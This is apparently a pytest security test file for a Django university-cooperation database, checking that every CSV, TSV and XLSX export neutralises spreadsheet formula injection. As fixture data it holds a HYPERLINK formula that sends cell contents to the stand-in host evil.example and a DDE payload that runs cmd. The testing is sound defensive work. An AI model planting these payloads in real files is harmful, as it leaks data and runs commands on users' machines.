"""CSV/XLSX formula injection (issue 14, finding 3): a name such as
``=HYPERLINK("http://evil.example/?"&A1,"x")`` or ``-2+3+cmd|' /C calc'!A0`` leaves every
export as text a spreadsheet shows and never runs: in CSV and TSV with a leading ', in XLSX
as a string cell. Negative numbers stay numbers, and every export imports back to the
values it came from.

Every export path is one entry of EXPORTS; a new export is one more line there."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from decimal import Decimal

import pytest
from django.contrib.admin import site
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test import Client
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from import_export.admin import ImportExportMixin
from openpyxl import load_workbook

from agreements.models import Agreement
from cooperation import csv_sql
from cooperation.api_urls import router
from cooperation.cells import csv_cell
from cooperation.models import Source, StatedFigure
from cooperation.roles import MINISTRY_EDITOR
from cooperation.views import FilteredListView
from mobility.models import MobilityFigure
from tests import factories as f
from tests.imports.conftest import Importer, row_errors
from tests.security.helpers import make_user
from universities.models import Institution

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DDE = "-2+3+cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE)
# What a spreadsheet reads as a formula when a CSV cell starts with it (OWASP), and a cell
# it reads as a plain number instead, which is safe as it is.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+([.][0-9]+)?")
on_postgresql = pytest.mark.skipif(
    connection.vendor != "postgresql", reason="the COPY export exists on PostgreSQL only"
)


@pytest.fixture
def register(db):
    """Every kind of record, each text column an export writes holding a payload."""
    kaznu = f.InstitutionFactory(
        name=HYPERLINK, city=DDE, latitude=Decimal("-33.9"), longitude=Decimal("-70.25")
    )
    bsu = f.InstitutionFactory(name=DDE, country="AZ", city="Baku")
    event = f.EventFactory(title=HYPERLINK, city=DDE, host_institution=kaznu)
    agreement = f.agreement_between(kaznu, bsu, title=DDE, event=event, kind="memorandum")
    agreement.parties.filter(institution=kaznu).update(signatory=f.PersonFactory(name=HYPERLINK))
    source = f.SourceFactory(title=HYPERLINK, publisher=DDE, url="https://example.org/evil")
    f.MobilityFigureFactory(
        home_institution=kaznu, host_institution=bsu, source=source, notes=DDE, year=2024
    )
    f.ScholarshipProgrammeFactory(name=HYPERLINK, host_institution=bsu)
    f.StatedFigureFactory(statement=DDE).sources.add(source)
    return {"kaznu": kaznu, "bsu": bsu, "agreement": agreement, "source": source}


@pytest.fixture
def staff(superuser) -> Client:
    client = Client()
    client.force_login(superuser)
    return client


def body(response) -> bytes:
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content) if response.streaming else response.content


# --------------------------------------------------------------------------- export paths


def page(name: str, fmt: str) -> Callable[[Client], bytes]:
    return lambda client: body(client.get(reverse(name), {"_export": fmt}))


def api(path: str, fmt: str) -> Callable[[Client], bytes]:
    return lambda client: body(client.get(f"/api/{path}/", {"format": fmt}))


def reimport(fmt: str) -> Callable[[Client], bytes]:
    return lambda client: body(client.get(reverse("agreements:import_export"), {"format": fmt}))


def admin_export(model, fmt: str) -> Callable[[Client], bytes]:
    """The admin's export form, every field ticked, in ``fmt``."""

    def fetch(client: Client) -> bytes:
        url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_export")
        form = client.get(url).context["form"]
        formats = {label.lower(): value for value, label in form.fields["format"].choices}
        data = {"format": formats[fmt], "resource": "0"}
        data |= {name: "on" for name, field in form.fields.items() if "resource_" in name}
        return body(client.post(url, data))

    return fetch


LIST_PAGES = [
    "universities:institution_list",
    "agreements:agreement_list",
    "events:event_list",
    "mobility:mobility_explorer",
    "mobility:scholarship_list",
    "cooperation:source_list",
    "stated_figure_list",
]
API_LISTS = [
    "institutions", "people", "events", "agreements", "scholarships", "mobility-figures",
    "stated-figures", "sources",
]  # fmt: skip
ADMIN_MODELS = [Institution, Agreement, MobilityFigure, Source, StatedFigure]
BOTH = ("csv", "xlsx")
EXPORTS = {
    **{f"page {name} {fmt}": (fmt, page(name, fmt)) for name in LIST_PAGES for fmt in BOTH},
    **{f"api {path} {fmt}": (fmt, api(path, fmt)) for path in API_LISTS for fmt in BOTH},
    **{f"re-import agreements {fmt}": (fmt, reimport(fmt)) for fmt in BOTH},
    **{
        f"admin {model._meta.model_name} {fmt}": (fmt, admin_export(model, fmt))
        for model in ADMIN_MODELS
        for fmt in ("csv", "tsv", "xlsx")
    },
}  # fmt: skip


def csv_cells(data: bytes, fmt: str) -> list[str]:
    text = data.decode("utf-8-sig")
    rows = csv.reader(io.StringIO(text, newline=""), delimiter="\t" if fmt == "tsv" else ",")
    return [cell for row in rows for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only: data_type says what a cell is
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("name", list(EXPORTS))
def test_no_export_writes_a_formula(name, register, staff):
    fmt, fetch = EXPORTS[name]
    data = fetch(staff)
    if fmt == "xlsx":
        cells = xlsx_cells(data)
        assert not [c.coordinate for c in cells if c.data_type in ("f", "e")], "formula cells"
        texts = [c.value for c in cells if isinstance(c.value, str)]
        # The payload is there, as the text it is.
        assert any(text.startswith(PAYLOADS) for text in texts), texts
    else:
        cells = csv_cells(data, fmt)
        unsafe = [c for c in cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]
        assert not unsafe, unsafe
        assert any(c.startswith(("'" + HYPERLINK[:10], "'" + DDE[:6])) for c in cells), cells


def _named_views(patterns, namespace: str = ""):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            yield from _named_views(pattern.url_patterns, inner)
        elif isinstance(pattern, URLPattern) and pattern.name:
            yield f"{namespace}{pattern.name}", pattern.callback


def test_every_export_is_in_the_list():
    """A list page, an API list or an admin that exports is checked above: a new one that
    is not in LIST_PAGES, API_LISTS or ADMIN_MODELS fails here."""
    views = dict(_named_views(get_resolver().url_patterns))
    pages = {
        name
        for name, view in views.items()
        if issubclass(getattr(view, "view_class", object), FilteredListView)
    }
    assert pages == set(LIST_PAGES)
    assert {prefix for prefix, _viewset, _basename in router.registry} == set(API_LISTS)
    admins = {
        model for model, admin in site._registry.items() if isinstance(admin, ImportExportMixin)
    }
    assert admins == set(ADMIN_MODELS)


# --------------------------------------------------------------------------- numbers


def _numbers(cells: list[str]) -> set[Decimal]:
    return {Decimal(cell) for cell in cells if PLAIN_NUMBER.fullmatch(cell)}


def test_negative_numbers_stay_numbers(register, staff):
    """The institution's latitude -33.9 is a number in every format: in CSV a cell without
    a quote (the admin writes every value as text), in XLSX a number cell."""
    assert Decimal("-33.9") in _numbers(csv_cells(admin_export(Institution, "csv")(staff), "csv"))
    assert Decimal("-33.9") in _numbers(csv_cells(api("institutions", "csv")(staff), "csv"))
    for xlsx in (admin_export(Institution, "xlsx"), api("institutions", "xlsx")):
        numbers = [c.value for c in xlsx_cells(xlsx(staff)) if c.data_type == "n"]
        assert -33.9 in [float(n) for n in numbers if n is not None]


# --------------------------------------------------------------------------- PostgreSQL COPY


@on_postgresql
@pytest.mark.parametrize(
    "fetch", [api("mobility-figures", "csv"), page("mobility:mobility_explorer", "csv")]
)
def test_the_csv_written_by_postgresql_is_escaped_too(fetch, register, staff, monkeypatch):
    copies = []
    copy_out = csv_sql._copy_out

    def recorded(raw_cursor, sql):
        copies.append(sql)
        return copy_out(raw_cursor, sql)

    monkeypatch.setattr(csv_sql, "_copy_out", recorded)
    cells = csv_cells(fetch(staff), "csv")
    assert copies, "the export went through COPY"
    assert "'" + HYPERLINK in cells and "'" + DDE in cells
    assert not [c for c in cells if c.startswith(FORMULA_START) and not PLAIN_NUMBER.fullmatch(c)]


@on_postgresql
def test_postgresql_applies_the_rule_of_every_other_writer(db):
    names = ["=1", "'=x", "''-5", "'plain", "-5", "+1", "-58.38", "-", "@a", "\tx", "\rx",
             "1e5", "-1e5", "5-", "a=b", *PAYLOADS]  # fmt: skip
    for name in names:
        f.InstitutionFactory(name=name)
    by_sql = dict(
        Institution.objects.annotate(cell=csv_sql.CsvColumn("name").cell()).values_list(
            "name", "cell"
        )
    )
    assert by_sql == {name: csv_cell(name) for name in names}


# --------------------------------------------------------------------------- round trips


def first_sheet(data: bytes, fmt: str) -> list[list]:
    if fmt == "xlsx":
        sheet = load_workbook(io.BytesIO(data), read_only=True).worksheets[0]
        return [list(row) for row in sheet.iter_rows(min_row=2, values_only=True)]  # from the keys
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


@pytest.fixture
def editor_client(db) -> Client:
    client = Client()
    client.force_login(make_user("editor", MINISTRY_EDITOR))
    return client


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_export_for_reimport_imports_back_to_the_same_names(fmt, register, editor_client,
                                                                tmp_path):  # fmt: skip
    exported = reimport(fmt)(editor_client)
    Agreement.objects.all().delete()
    importer = Importer(editor_client, "agreements", tmp_path)
    preview = importer.preview(exported, f"register.{fmt}")
    assert preview.context["report"].valid, row_errors(preview)
    assert importer.confirm().status_code == 302
    agreement = Agreement.objects.get()
    assert agreement.title == DDE  # not "'-2+3+cmd…"
    assert {party.institution.name for party in agreement.parties.all()} == set(PAYLOADS)
    assert agreement.parties.get(institution=register["kaznu"]).signatory.name == HYPERLINK
    assert first_sheet(reimport(fmt)(editor_client), fmt) == first_sheet(exported, fmt)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_explorer_export_imports_back_to_the_same_names(fmt, register, editor_client,
                                                            tmp_path):  # fmt: skip
    explorer = page("mobility:mobility_explorer", fmt)
    exported = explorer(editor_client)
    MobilityFigure.objects.all().delete()
    importer = Importer(editor_client, "mobility", tmp_path)
    preview = importer.preview(exported, f"figures.{fmt}")
    assert preview.context["report"].valid, row_errors(preview)
    assert importer.confirm().status_code == 302
    figure = MobilityFigure.objects.get()
    assert figure.home_institution == register["kaznu"]  # found by the name HYPERLINK
    assert figure.host_institution == register["bsu"]  # found by the name DDE
    assert figure.source == register["source"]  # found by its title HYPERLINK
    # The same cells, but for those that name the new row itself (its id, version, times).
    assert facts(first_sheet(explorer(editor_client), fmt)) == facts(first_sheet(exported, fmt))


def facts(rows: list[list]) -> list[list]:
    header = rows[0]
    keep = [i for i, key in enumerate(header) if key not in ("id", "created_at", "updated_at")]
    return [[row[i] for i in keep] for row in rows]


def test_the_admin_csv_export_imports_back_unchanged(register, staff):
    exported = admin_export(Institution, "csv")(staff)
    assert ("'" + HYPERLINK) in csv_cells(exported, "csv")
    url = reverse("admin:universities_institution_import")
    form = staff.get(url).context["form"]
    formats = {label.lower(): value for value, label in form.fields["format"].choices}
    upload = SimpleUploadedFile("institutions.csv", exported)
    response = staff.post(url, {"format": formats["csv"], "resource": "0", "import_file": upload})
    assert response.status_code == 200
    confirm = response.context["confirm_form"]
    response = staff.post(reverse("admin:universities_institution_process_import"), confirm.initial)
    assert response.status_code == 302
    assert set(Institution.objects.values_list("name", flat=True)) == set(PAYLOADS)
    assert Institution.objects.get(pk=register["kaznu"].pk).city == DDE
